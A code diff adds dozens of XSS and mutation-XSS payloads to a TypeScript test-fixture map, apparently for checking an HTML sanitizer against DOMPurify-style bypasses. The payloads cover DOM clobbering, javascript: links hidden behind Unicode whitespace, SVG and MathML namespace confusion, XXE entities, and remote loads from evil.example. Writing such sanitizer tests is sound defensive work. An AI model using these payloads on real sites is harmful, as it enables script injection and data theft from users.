@@ -109,4 +109,73 @@ export const HOSTILE_LETTERS: Readonly<Record<string, string>> = {
   'contenteditable and drag': '<div contenteditable draggable=true>x</div>',
   'target and opener':
     '<a href="https://evil.example" target="_top" rel="opener">x</a><area href="https://evil.example" target="_parent">',
+
+  // Further families of DOMPurify's own fixtures, in words of our own.
+  ...Object.fromEntries(
+    (
+      'acceptCharset activeElement adoptNode attributes children cookie createElement firstElementChild getElementById ' +
+      'hasChildNodes insertBefore namespaceURI nextSibling nodeName nodeType ownerDocument parentNode removeAttributeNode ' +
+      'removeChild setAttribute submit textContent'
+    )
+      .split(' ')
+      .map((name) => [
+        `clobbered ${name}`,
+        `<form onsubmit="${HARM}" id=${name}><input name=${name} onfocus="${HARM}" autofocus></form><img src=x name=${name} onerror="${HARM}">`,
+      ]),
+  ),
+  'javascript link behind every white space': [
+    '0001',
+    '00A0',
+    '1680',
+    '180E',
+    '2000',
+    '200A',
+    '200B',
+    '2028',
+    '2029',
+    '205F',
+    '3000',
+    'FEFF',
+  ]
+    .map((code) => `<a href="&#x${code};javascript:${HARM}">x</a><a href="java&#x${code};script:${HARM}">x</a>`)
+    .join(''),
+  'the tag image': `<image name=body src=x onerror="${HARM}"><image name=adoptNode><svg onload="${HARM}">`,
+  'option that hides a sheet or a frame': `<option><style></option></select><b><img src=x onerror="${HARM}"></style></option><option><iframe></select><b><script>${HARM}</script>`,
+  'template within template': `<body><template><s><template><s><img src=x onerror="${HARM}">x</s></template></s></template>`,
+  'select with a template': `<select><template><img src=x onerror="${HARM}"></template></select>`,
+  'body, frameset and head out of place': `<div><body onscroll="${HARM}" oninput="${HARM}"><frameset onload="${HARM}"><head><base href="javascript://"></head><a href="/. /,${HARM}//#">x</a></div>`,
+  'other charsets': `<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA <meta charset="x-mac-farsi">\u00BCscript\u00BE${HARM}\u00BC/script\u00BE +ADw-script+AD4-${HARM}+ADw-/script+AD4-`,
+  'svg that sets an address': `<svg><a xlink:href="?"><circle r=400 /><animate attributeName="xlink:href" begin=0 from="javascript:${HARM}" to="&" /></a><a><set attributeName=href to="javascript:${HARM}" /><text y=20>x</text></a></svg>`,
+  'svg that sets a handler': `<svg><set attributeName=onmouseover to="${HARM}" /><animate attributeName=onload values="${HARM}" /></svg>`,
+  'svg that fetches by key': `<svg><image><set attributeName="xlink:href" begin="accessKey(a)" to="//evil.example/?a" /></image><feImage><set attributeName="xlink:href" to="https://evil.example/fe" /></feImage></svg>`,
+  'svg by handler and listener': `<svg id=x><listener event=load handler="#y" xmlns="http://www.w3.org/2001/xml-events" observer=x /><handler id=y ev:event=load>${HARM}</handler></svg>`,
+  'svg paint from elsewhere':
+    '<svg><rect width=9 height=9 style="clip-path:url(https://evil.example/a#a);fill:url(https://evil.example/b#b);marker:url(https://evil.example/d#d);mask:url(https://evil.example/e#e);stroke:url(https://evil.example/f#f)" /></svg>',
+  'svg in a prefix': `<html xmlns:svg="http://www.w3.org/2000/svg"><svg:svg onload="${HARM}"><svg:script>${HARM}</svg:script></svg:svg>`,
+  'math that links': `<math href="javascript:${HARM}">x</math><math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${HARM}">x</maction></math>`,
+  'style sheets of XML': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:,x"?><!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example/x.xxe">]><stylesheet xmlns="http://www.w3.org/TR/WD-xsl"><template match="/"><eval>${HARM}</eval></template></stylesheet>&y;`,
+  'declarations that hide markup': `<? x="><script>${HARM}</script>"><! x="><script>${HARM}</script>"></ x="><script>${HARM}</script>"><% x><p y="%><script>${HARM}</script>">`,
+  'tags that are begun twice': `<b <script>${HARM}//</script>0</script></b><script<b></b><${HARM}</script </b><script<{${HARM}}/></script >`,
+  'back-quotes for quotes': `<a href=https://a.example/#x=\`y></a><img alt="\`><img src=xx onerror='${HARM}'></a>"><img src="x\` \`<script>${HARM}</script>"\` \`>`,
+  'behaviours of old browsers': `<b style="behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml#a);width:expression(${HARM})">x</b><a style="-o-link:'javascript:${HARM}';-o-link-source:current">x</a>`,
+  'a style that ends its declaration':
+    '<b style="font-family:foo}*{background:url(https://evil.example/end.png)">x</b><b style="font-family:foo[bar;background:url(https://evil.example/bra.png)">x</b>',
+  'frames by other schemes':
+    '<iframe src="mhtml:https://evil.example/t.html!x"></iframe><iframe src="view-source:https://evil.example/"></iframe><iframe sandbox="allow-scripts allow-same-origin" src="https://evil.example/"></iframe>',
+  'objects with what they are given': `<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=DataURL value="javascript:${HARM}"></object><embed src="data:image/svg+xml,<svg onload='${HARM}'>">`,
+  'fields that say more than they show':
+    '<form><input name=injected dirname=password><input pattern="^((a+.)a)+$" value="aaaaaaaaaaaaaaaaaaaaaaaaaaaa!"></form>',
+  'titles with handlers': `<title onpropertychange="${HARM}"></title><title title=></title><label datasrc="#x" datafld=y dataformatas=html></label>`,
+  'mXSS by a paragraph out of svg': `<svg></p><textarea><title><style></textarea><img src=x onerror="${HARM}"></style></title></svg>`,
+  'mXSS by a break out of math': `<math></br><textarea><mtext><template><style></textarea><img src=x onerror="${HARM}">`,
+  'mXSS by math in svg': `<svg></p><math><title><style><img src=x onerror="${HARM}"></style></title>`,
+  'mXSS by an entity in a handler': `<svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;${HARM}<!--"></style>`,
+  'mXSS by forms and a path': `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror='${HARM}' src>">`,
+  'mXSS by headings within links': `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${HARM}'>"></style></h1>`,
+  'mXSS by an element of no name': `a<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror='${HARM}'>">`,
+  'mXSS by an option': `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='${HARM}'>">`,
+  'mXSS by what is removed': `<xmp><svg><b><style><b title='</style><img src=x onerror="${HARM}">'></xmp><noembed><svg><b><style><b title='</style><img src=x onerror="${HARM}">'>`,
+  'mXSS by a comment in a comment': `<!-- \`<img src=xxx onerror='${HARM}'>//--!>x<comment><img src="</comment><img src=x onerror='${HARM}'>">`,
+  'mXSS by a style within svg': `<svg><style><img src=x onerror="${HARM}">// </b>`,
+  'parts of pages and commands': `<search><form action="./search/"><input type=search><button type=submit command=--x commandfor=a popovertarget=a popovertargetaction=show>x</button></form></search><div inert>x</div>`,
 };
